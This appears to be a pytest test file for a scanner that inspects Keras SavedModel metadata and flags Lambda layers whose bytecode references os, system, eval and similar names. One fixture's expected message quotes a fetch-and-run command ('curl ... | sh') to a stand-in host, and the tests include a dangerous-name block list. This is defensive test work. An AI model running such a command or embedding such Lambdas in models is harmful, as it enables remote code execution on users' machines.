"""``sm.keras`` and the Keras findings on the committed tf-keras exports and hand-made damage.

``tests/fixtures/keras/<name>/`` are real tf-keras 2.21 exports and ``<name>.json`` what
tf-keras and CPython said about them when they were written
(``scripts/make_keras_fixtures.py``); the TF tier regenerates them and compares with the
live objects.
"""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

import smlite
from smlite import pb
from smlite.cli import run
from smlite.formats import keras_metadata as km_format
from smlite.model.keras_findings import DANGEROUS_NAMES
from smlite.model.keras_objects import KERAS_REGISTERED_NAMES, custom_class, is_keras_module

KERAS = Path(__file__).resolve().parents[1] / "fixtures" / "keras"
MODELS = Path(__file__).resolve().parents[1] / "fixtures" / "models"
MARSHAL = Path(__file__).resolve().parents[1] / "fixtures" / "marshal"
NAMES = ["lambda_expr", "lambda_named", "lambda_os_system", "custom_layer", "compiled"]


def facts(name: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((KERAS / f"{name}.json").read_text())
    return doc


def copy(name: str, tmp_path: Path) -> Path:
    """The fixture in a temporary repository (a .git marker stops the policy search)."""
    dst = tmp_path / "repo" / name
    shutil.copytree(KERAS / name, dst)
    (tmp_path / "repo" / ".git").mkdir(exist_ok=True)
    return dst


def check(model: Path, tmp_path: Path, *args: str, command: str = "check") -> tuple[int, Any]:
    out = tmp_path / f"{command}.json"
    code = run([command, "--format", "json", "--output", str(out), *args, str(model)])
    return code, json.loads(out.read_text())


def keras_findings(doc: Any) -> list[tuple[str, str, str]]:
    """(rule, file name, location) of the SML8xx findings of a check/scan document."""
    return sorted(
        (f["rule"], Path(f["file"]).name, f["location"])
        for m in doc["models"]
        for f in m["findings"]
        if f["rule"].startswith("SML8")
    )


def edit_metadata(model: Path, change: Any) -> None:
    """Rewrite keras_metadata.pb with ``change(node, json_value) -> json_value | None``."""
    path = model / km_format.KERAS_METADATA_FILENAME
    meta = pb.KerasSavedMetadata.FromString(path.read_bytes())
    for node in meta.nodes:
        value = change(node, json.loads(node.metadata))
        if value is not None:
            node.metadata = json.dumps(value)
    path.write_bytes(meta.SerializeToString())


def lambda_configs(value: Any) -> list[dict[str, Any]]:
    """Every Lambda config in a JSON value."""
    found = []
    if isinstance(value, dict):
        if value.get("class_name") == "Lambda" and isinstance(value.get("config"), dict):
            found.append(value["config"])
        for item in value.values():
            found += lambda_configs(item)
    elif isinstance(value, list):
        for item in value:
            found += lambda_configs(item)
    return found


# -- the view -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_view_matches_what_tf_keras_said(name: str) -> None:
    expected = facts(name)
    with smlite.open(KERAS / name) as sm:
        model = sm.keras
    assert model is not None
    assert model.source == "keras_metadata.pb"
    assert model.name == expected["name"]
    assert model.class_name == expected["class_name"]
    assert model.model_class == expected["class_name"]  # Functional or Sequential
    assert model.keras_version == expected["tf_keras"]
    assert model.tensorflow_version == expected["tensorflow"]
    assert model.backend == "tensorflow"
    assert sorted([layer.name, layer.class_name] for layer in model.layers) == expected["layers"]
    assert model.root is not None and model.root.node_path == "root"
    for layer in model.layers:
        assert layer.node_path.startswith("root.")
        assert layer.custom == ("smlite_fixtures>Scale" if layer.name == "scale" else None)
    training = expected["training_config"]
    if training is None:
        assert model.training_config is None
    else:
        assert model.training_config is not None
        assert model.training_config.optimizer == training["optimizer"]
        assert model.training_config.loss == training["loss"]
        assert list(model.training_config.metrics) == training["metrics"]
        lr = model.training_config.optimizer_config["config"]["learning_rate"]
        assert lr == pytest.approx(training["learning_rate"], rel=1e-6)


@pytest.mark.parametrize("name", ["lambda_expr", "lambda_named", "lambda_os_system"])
def test_lambda_code_matches_the_live_function(name: str) -> None:
    expected = facts(name)["lambdas"]
    with smlite.open(KERAS / name) as sm:
        assert sm.keras is not None
        layers = {layer.name: layer for layer in sm.keras.layers}
    assert expected
    for layer_name, live in expected.items():
        (fn,) = layers[layer_name].functions
        assert fn.role == "function" and fn.kind == "lambda" and fn.error is None
        assert fn.module == live["module"]
        code = fn.code
        assert code is not None
        assert code.layout == "3.11-3.13"  # written by the TF venv's Python 3.11
        assert list(code.names) == live["co_names"]
        assert list(code.all_names) == live["names"]
        assert list(code.arg_names) == live["arg_names"]
        assert code.name == live["name"] and code.qualname == live["qualname"]
        assert code.filename == live["filename"]
        assert sorted(s for s in code.strings if isinstance(s, str)) == live["strings"]


def test_inputs() -> None:
    with smlite.open(KERAS / "lambda_os_system") as sm:
        assert sm.keras is not None
        (only,) = sm.keras.inputs
    assert (only.name, only.dtype, only.shape) == ("x", "float32", (None, 2, 3))
    with smlite.open(KERAS / "lambda_expr") as sm:
        assert sm.keras is not None
        assert [(i.name, i.shape) for i in sm.keras.inputs] == [("x", (None, 3))]


def test_function_by_name_and_nested_layer_order() -> None:
    with smlite.open(KERAS / "lambda_named") as sm:
        assert sm.keras is not None
        builtin = next(layer for layer in sm.keras.layers if layer.name == "lam_builtin")
    (fn,) = builtin.functions
    assert (fn.kind, fn.name, fn.module, fn.code) == ("function", "abs", "builtins", None)
    with smlite.open(KERAS / "lambda_os_system") as sm:
        assert sm.keras is not None
        order = [layer.name for layer in sm.keras.layers]
    assert order == ["td", "lam_os", "flat", "out"]


def test_raw_json_escape_hatch() -> None:
    with smlite.open(KERAS / "compiled") as sm:
        model = sm.keras
    assert model is not None and model.root is not None
    assert json.loads(model.root.json)["class_name"] == "Sequential"
    assert model.root.metadata["config"]["name"] == "compiled"
    assert model.root.offset == 0 and model.root.version[0] > 0
    with pytest.raises(TypeError):
        model.root.metadata["name"] = "changed"  # frozen


@pytest.mark.parametrize(
    ("name", "source", "note"),
    [
        ("keras3_export", "keras3_export", "exported by Keras 3 ExportArchive: no layer metadata"),
        ("keras_multi_export", "keras3_export", "exported by Keras 3 ExportArchive"),
        ("keras_model", "keras3_saved_model", "Keras 3 model saved with tf.saved_model.save"),
    ],
)
def test_keras3_models_say_why_there_is_no_metadata(name: str, source: str, note: str) -> None:
    with smlite.open(MODELS / name) as sm:
        model = sm.keras
    assert model is not None
    assert model.source == source and model.layers == () and model.note is not None
    assert note in model.note


@pytest.mark.parametrize("name", ["module_one_signature", "tf1_multi_tag", "custom_op"])
def test_non_keras_models_have_no_keras_view(name: str) -> None:
    with smlite.open(MODELS / name) as sm:
        assert sm.keras is None


def test_tf_keras_fixture_of_the_main_set() -> None:
    with smlite.open(MODELS / "tf_keras_model") as sm:
        model = sm.keras
    assert model is not None and model.model_class == "Functional"
    assert [i.name for i in model.inputs] == ["ids", "dense"]


def test_custom_class_rules() -> None:
    assert custom_class({"class_name": "Custom>Adam", "config": {}}) is None
    assert custom_class({"class_name": "Dense"}) is None
    assert custom_class({"class_name": "Pkg>Layer"}) == "Pkg>Layer"
    new_style = {"class_name": "Dense", "module": "keras.layers", "registered_name": None}
    assert custom_class(new_style) is None
    mine = {"class_name": "Block", "module": "my.models", "registered_name": "Mine>Block"}
    assert custom_class(mine) == "Mine>Block"
    assert custom_class({"class_name": "Block", "module": "my.models"}) == "Block"
    assert all(n.startswith("Custom>") for n in KERAS_REGISTERED_NAMES)
    assert is_keras_module("tf_keras.src.layers") and is_keras_module("keras")
    assert not is_keras_module("keras_contrib") and not is_keras_module("builtins")


def test_dangerous_names_cover_the_issue_list() -> None:
    for name in ("os", "system", "eval", "exec", "__import__", "subprocess", "open", "getattr"):
        assert name in DANGEROUS_NAMES
    # Names tensor code needs are not on the list.
    for name in ("tf", "K", "backend", "keras", "math", "nn", "reduce_sum", "concat", "shape"):
        assert name not in DANGEROUS_NAMES


# -- findings ------------------------------------------------------------------------------

EXPECTED_FINDINGS = {
    "lambda_expr": [("SML801", "keras_metadata.pb", "node[2]/layer[lam_expr]")],
    "lambda_named": [
        ("SML801", "keras_metadata.pb", "node[2]/layer[lam_named]"),
        ("SML804", "keras_metadata.pb", "node[3]/layer[lam_builtin]"),
    ],
    "lambda_os_system": [
        ("SML801", "keras_metadata.pb", "node[18]/layer[lam_os]"),
        ("SML802", "keras_metadata.pb", "node[18]/layer[lam_os]"),
    ],
    "custom_layer": [("SML805", "keras_metadata.pb", "node[2]/layer[scale]")],
    "compiled": [],
}


@pytest.mark.parametrize("command", ["check", "scan"])
@pytest.mark.parametrize("name", NAMES)
def test_findings_of_each_fixture(name: str, command: str, tmp_path: Path) -> None:
    model = copy(name, tmp_path)
    code, doc = check(model, tmp_path, command=command)
    assert keras_findings(doc) == EXPECTED_FINDINGS[name]
    errors = [f for f in EXPECTED_FINDINGS[name] if f[0] != "SML805"]
    assert code == (1 if errors else 0)


def test_messages_name_what_the_code_references(tmp_path: Path) -> None:
    _, doc = check(copy("lambda_os_system", tmp_path), tmp_path)
    by_rule = {f["rule"]: f for f in doc["models"][0]["findings"]}
    dangerous = by_rule["SML802"]
    assert "references os, system (runs processes or shell commands)" in dangerous["message"]
    described = by_rule["SML801"]["message"]
    assert "sneaky(x) of module 'keras_fixture_helpers'" in described
    assert "names: _NEVER, os, system" in described
    assert "'curl http://example.invalid/payload | sh'" in described
    assert dangerous["offset"] is not None and dangerous["severity"] == "error"


def test_sarif_locations(tmp_path: Path) -> None:
    model = copy("lambda_os_system", tmp_path)
    out = tmp_path / "out.sarif"
    assert run(["check", "--format", "sarif", "--output", str(out), str(model)]) == 1
    log = json.loads(out.read_text())
    results = [r for r in log["runs"][0]["results"] if r["ruleId"] == "SML802"]
    (result,) = results
    (location,) = result["locations"]
    assert location["physicalLocation"]["artifactLocation"]["uri"].endswith("keras_metadata.pb")
    assert location["logicalLocations"][0]["fullyQualifiedName"] == "node[18]/layer[lam_os]"
    rules = {r["id"]: r for r in log["runs"][0]["tool"]["driver"]["rules"]}
    assert "security" in rules["SML802"]["properties"]["tags"]


def test_text_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["scan", str(copy("lambda_named", tmp_path))]) == 1
    out = capsys.readouterr().out
    assert "SML804 keras-function-by-name" in out
    assert "keras_metadata.pb @" in out and "node[3]/layer[lam_builtin]" in out


def test_policy_allows_modules_and_disables_rules(tmp_path: Path) -> None:
    model = copy("lambda_named", tmp_path)
    (tmp_path / "repo" / "pyproject.toml").write_text(
        '[tool.smlite]\nallowed-keras-modules = ["builtins"]\ndisable = ["SML801"]\n'
    )
    code, doc = check(model, tmp_path)
    assert keras_findings(doc) == [] and code == 0
    custom = copy("custom_layer", tmp_path)
    (tmp_path / "repo" / "pyproject.toml").write_text(
        '[tool.smlite]\nallowed-keras-modules = ["smlite_fixtures"]\n'
    )
    assert keras_findings(check(custom, tmp_path, "--strict")[1]) == []
    (tmp_path / "repo" / "pyproject.toml").write_text(
        '[tool.smlite]\nallowed-keras-modules = ["smlite"]\n'  # not a prefix match of the package
    )
    code, doc = check(custom, tmp_path, "--strict")
    assert [f[0] for f in keras_findings(doc)] == ["SML805"] and code == 1


def test_dangerous_names_stay_when_lambdas_are_accepted(tmp_path: Path) -> None:
    model = copy("lambda_os_system", tmp_path)
    (tmp_path / "repo" / "pyproject.toml").write_text('[tool.smlite]\ndisable = ["SML801"]\n')
    code, doc = check(model, tmp_path)
    assert [f[0] for f in keras_findings(doc)] == ["SML802"] and code == 1


def _payload(python: str, case: str) -> str:
    doc = json.loads((MARSHAL / f"cpython-{python}.json").read_text())
    payload: str = next(c["payload"] for c in doc["cases"] if c["case"] == case)
    return payload


@pytest.mark.parametrize("python", ["3.6", "3.8", "3.10", "3.12", "3.13"])
def test_payloads_of_other_pythons(python: str, tmp_path: Path) -> None:
    """A Lambda exported under another Python: its bytecode is still read."""
    model = copy("lambda_expr", tmp_path)

    def swap(node: Any, value: Any) -> Any:
        for config in lambda_configs(value):
            config["function"]["items"][0] = _payload(python, "sneaky")
        return value

    edit_metadata(model, swap)
    _, doc = check(model, tmp_path)
    assert [f[0] for f in keras_findings(doc)] == ["SML801", "SML802"]
    with smlite.open(model) as sm:
        assert sm.keras is not None
        (fn,) = next(layer for layer in sm.keras.layers if layer.name == "lam_expr").functions
    assert fn.code is not None and fn.code.all_names == ("_NEVER", "os", "system")


@pytest.mark.parametrize(
    "garbage",
    [
        base64.b64encode(b"\xe3" + b"\x01" * 40).decode(),  # a code object of no layout
        base64.b64encode(b":" * 8).decode(),  # a type code no CPython 3.0-3.13 writes
        "",  # nothing at all
    ],
)
def test_opaque_bytecode_is_an_error_never_clean(garbage: str, tmp_path: Path) -> None:
    model = copy("lambda_expr", tmp_path)

    def swap(node: Any, value: Any) -> Any:
        for config in lambda_configs(value):
            config["function"]["items"][0] = garbage
        return value

    edit_metadata(model, swap)
    code, doc = check(model, tmp_path)
    assert [f[0] for f in keras_findings(doc)] == ["SML801", "SML803"]
    assert code == 1
    opaque = next(f for m in doc["models"] for f in m["findings"] if f["rule"] == "SML803")
    assert "opaque bytecode" in opaque["message"]


def test_bytecode_that_is_not_base64_is_read_as_keras_reads_it(tmp_path: Path) -> None:
    """tf-keras falls back to raw_unicode_escape text when the code is not base64."""
    model = copy("lambda_expr", tmp_path)
    raw = base64.b64decode(_payload("3.11", "dynamic")).decode("latin-1")

    def swap(node: Any, value: Any) -> Any:
        for config in lambda_configs(value):
            config["function"] = raw + "!"  # '!' is not base64: the raw text is the code
        return value

    assert km_format.function_payload("bm90IGNvZGU=") == b"not code"
    edit_metadata(model, swap)
    _, doc = check(model, tmp_path)
    assert [f[0] for f in keras_findings(doc)] == ["SML801", "SML803"]
    exact = copy("lambda_named", tmp_path)

    def plain_text(node: Any, value: Any) -> Any:
        for config in lambda_configs(value):
            if config.get("function_type") == "lambda":
                config["function"] = raw
        return value

    edit_metadata(exact, plain_text)
    _, doc = check(exact, tmp_path)
    assert ("SML802", "keras_metadata.pb", "node[2]/layer[lam_named]") in keras_findings(doc)


def test_output_shape_and_mask_functions_are_checked(tmp_path: Path) -> None:
    model = copy("lambda_expr", tmp_path)

    def add(node: Any, value: Any) -> Any:
        for config in lambda_configs(value):
            config["mask"] = {
                "class_name": "__tuple__",
                "items": [_payload("3.9", "dynamic"), None, None],
            }
            config["mask_type"] = "lambda"
            config["output_shape"] = "compute"
            config["output_shape_type"] = "function"
            config["output_shape_module"] = "my_shapes"
        return value

    edit_metadata(model, add)
    _, doc = check(model, tmp_path)
    found = [(f["rule"], f["message"].split(":")[0]) for f in doc["models"][0]["findings"]]
    assert ("SML802", "Lambda layer 'lam_expr' (mask)") in found
    assert any(r == "SML804" and "(output_shape)" in m for r, m in found)


# -- damage --------------------------------------------------------------------------------


def test_truncated_metadata_is_a_finding(tmp_path: Path) -> None:
    model = copy("lambda_os_system", tmp_path)
    path = model / km_format.KERAS_METADATA_FILENAME
    data = path.read_bytes()
    outcomes = set()
    for n in range(0, len(data), max(1, len(data) // 60)):
        path.write_bytes(data[:n])
        code, doc = check(model, tmp_path)
        rules = {f[0] for f in keras_findings(doc)}
        outcomes.add(frozenset(rules))
        assert code in (0, 1)
        assert rules <= {"SML801", "SML802", "SML806"}
        if n and "SML806" not in rules:
            # Cut at an entry boundary: a shorter but valid file.
            assert pb.KerasSavedMetadata.FromString(data[:n]) is not None
    assert frozenset({"SML806"}) in outcomes


def test_damaged_json_of_one_node_leaves_the_others_checked(tmp_path: Path) -> None:
    model = copy("lambda_os_system", tmp_path)
    path = model / km_format.KERAS_METADATA_FILENAME
    meta = pb.KerasSavedMetadata.FromString(path.read_bytes())
    meta.nodes[0].metadata = meta.nodes[0].metadata[:100]
    path.write_bytes(meta.SerializeToString())
    _, doc = check(model, tmp_path)
    assert keras_findings(doc) == [
        ("SML801", "keras_metadata.pb", "node[18]/layer[lam_os]"),
        ("SML802", "keras_metadata.pb", "node[18]/layer[lam_os]"),
        ("SML806", "keras_metadata.pb", "node[0]"),
    ]
    damaged = next(f for f in doc["models"][0]["findings"] if f["rule"] == "SML806")
    assert damaged["message"].startswith("node 0 (root): the metadata is not JSON")
    with smlite.open(model) as sm, pytest.raises(smlite.CorruptFileError, match="not JSON"):
        sm.keras  # noqa: B018


def test_deep_json_is_refused(tmp_path: Path) -> None:
    model = copy("lambda_expr", tmp_path)
    deep = "[" * 300 + "]" * 300
    deeper = "[" * 100_000 + "]" * 100_000
    path = model / km_format.KERAS_METADATA_FILENAME
    meta = pb.KerasSavedMetadata.FromString(path.read_bytes())
    meta.nodes[1].metadata = deep
    meta.nodes[2].metadata = deeper
    path.write_bytes(meta.SerializeToString())
    _, doc = check(model, tmp_path)
    messages = [f["message"] for f in doc["models"][0]["findings"] if f["rule"] == "SML806"]
    assert len(messages) == 2
    assert any(f"more than the {km_format.MAX_JSON_DEPTH} smlite reads" in m for m in messages)
    assert any("recursion limit" in m or "levels deep" in m for m in messages)


def test_oversized_and_unparsable_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    model = copy("compiled", tmp_path)
    path = model / km_format.KERAS_METADATA_FILENAME
    monkeypatch.setattr(km_format, "MAX_FILE_BYTES", 100)
    code, doc = check(model, tmp_path)
    (finding,) = [f for f in doc["models"][0]["findings"] if f["rule"] == "SML806"]
    assert "more than the 100 bytes smlite reads" in finding["message"] and code == 1
    monkeypatch.undo()
    path.write_bytes(b"\x0a\xff\xff\xff\xff\x0f" + b"x" * 10)  # nodes: a 4 GB entry
    code, doc = check(model, tmp_path)
    (finding,) = [f for f in doc["models"][0]["findings"] if f["rule"] == "SML806"]
    assert finding["message"] == (
        "not a SavedMetadata message: field 1 claims 4294967295 bytes but only 10 remain"
    )
    assert finding["offset"] == 6
    path.write_bytes(b"\x0a\x02\x10\xff")  # node_id: a truncated varint
    _, doc = check(model, tmp_path)
    (finding,) = [f for f in doc["models"][0]["findings"] if f["rule"].startswith("SML8")]
    assert finding["rule"] == "SML806" and finding["offset"] == 0
    assert finding["message"].startswith("entry #0 (2 bytes) does not parse as a SavedObject")


def test_summary_and_show_survive_damage(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model = copy("compiled", tmp_path)
    (model / km_format.KERAS_METADATA_FILENAME).write_bytes(b"\x0a\x05garbage")
    assert run(["summary", str(model)]) == 0
    assert "keras:    unreadable:" in capsys.readouterr().out
    assert run(["summary", str(model), "--format", "json"]) == 0
    keras = json.loads(capsys.readouterr().out)["keras"]
    assert keras["source"] is None and "does not parse as a SavedObject" in keras["error"]


# -- TF 2.0-2.4: the metadata in the object graph -------------------------------------------


def test_metadata_in_the_object_graph(tmp_path: Path) -> None:
    model = copy("lambda_os_system", tmp_path)
    path = model / km_format.KERAS_METADATA_FILENAME
    keras_meta = pb.KerasSavedMetadata.FromString(path.read_bytes())
    sm_proto = pb.SavedModel.FromString((model / "saved_model.pb").read_bytes())
    nodes = sm_proto.meta_graphs[0].object_graph_def.nodes
    for entry in keras_meta.nodes:
        nodes[entry.node_id].user_object.metadata = entry.metadata
    (model / "saved_model.pb").write_bytes(sm_proto.SerializeToString())
    (model / "fingerprint.pb").unlink()
    path.unlink()
    with smlite.open(model) as sm:
        keras = sm.keras
    assert keras is not None and keras.source == "object_graph"
    assert [layer.name for layer in keras.layers] == ["td", "lam_os", "flat", "out"]
    lam = next(layer for layer in keras.layers if layer.name == "lam_os")
    assert lam.node_path.startswith("root.layer") and lam.node_id == 18
    assert all(node.offset is None for node in keras.nodes)  # offsets are keras_metadata.pb's
    _, doc = check(model, tmp_path)
    assert keras_findings(doc) == [
        ("SML801", "saved_model.pb", "meta_graph[serve]/node[18]/layer[lam_os]"),
        ("SML802", "saved_model.pb", "meta_graph[serve]/node[18]/layer[lam_os]"),
    ]


# -- JSON and text -------------------------------------------------------------------------


def test_summary_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["summary", str(KERAS / "lambda_os_system"), "--format", "json"]) == 0
    keras = json.loads(capsys.readouterr().out)["keras"]
    assert keras["source"] == "keras_metadata.pb" and keras["error"] is None
    assert keras["model_class"] == "Sequential" and keras["keras_version"] == "2.21.0"
    lam = next(layer for layer in keras["layers"] if layer["name"] == "lam_os")
    (fn,) = lam["functions"]
    assert fn["kind"] == "lambda" and fn["code"]["names"] == ["_NEVER", "os", "system"]
    assert fn["code"]["arg_names"] == ["x"] and fn["code"]["layout"] == "3.11-3.13"
    assert lam["config"]["function_type"] == "lambda"
    assert run(["summary", str(MODELS / "module_one_signature"), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["keras"] is None


def test_show_all_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["show", str(KERAS / "compiled"), "--all", "--format", "json"]) == 0
    keras = json.loads(capsys.readouterr().out)["keras"]
    assert keras["training_config"]["optimizer"] == "Adam"
    assert keras["training_config"]["metrics"] == ["accuracy"]
    assert keras["inputs"] == [{"name": "features", "dtype": "float32", "shape": [None, 4]}]
    assert run(["show", str(MODELS / "keras3_export"), "--all", "--format", "json"]) == 0
    keras3 = json.loads(capsys.readouterr().out)["keras"]
    assert keras3["source"] == "keras3_export" and keras3["layers"] == []


def test_summary_text(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["summary", str(KERAS / "lambda_os_system")]) == 0
    out = capsys.readouterr().out
    assert "keras:    Sequential model 'lambda_os_system', Keras 2.21.0, 4 layers" in out
    assert "lam_os  Lambda           Python bytecode (3.11-3.13): sneaky(x), names: _NEVER" in out
    assert run(["summary", str(MODELS / "keras3_export")]) == 0
    assert (
        "keras:    exported by Keras 3 ExportArchive: no layer metadata" in capsys.readouterr().out
    )
    assert run(["summary", str(KERAS / "compiled")]) == 0
    assert "compiled: optimizer Adam, loss sparse_categorical_crossentropy, metrics accuracy" in (
        capsys.readouterr().out
    )


def test_hostile_names_are_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = "lam\x1b[31mRED\x07\n\u202e"
    model = copy("lambda_expr", tmp_path)

    def rename(node: Any, value: Any) -> Any:
        for config in lambda_configs(value):
            config["name"] = evil
        if isinstance(value, dict) and value.get("class_name") == "Lambda":
            value["name"] = evil
        return value

    edit_metadata(model, rename)
    assert run(["summary", str(model)]) == 0
    assert run(["check", str(model)]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "lam\\x1b[31mRED" in out


def test_policy_key_allowed_keras_modules() -> None:
    from smlite.model.policy import Policy, PolicyError

    policy = Policy.from_table({"allowed-keras-modules": ["my_company", "builtins"]})
    assert policy.allows_keras_module("my_company")
    assert policy.allows_keras_module("my_company.layers.blocks")
    assert not policy.allows_keras_module("my_company_other")
    assert not Policy().allows_keras_module("builtins")
    with pytest.raises(PolicyError, match="allowed-keras-modules must be a list of strings"):
        Policy.from_table({"allowed-keras-modules": "my_company"})
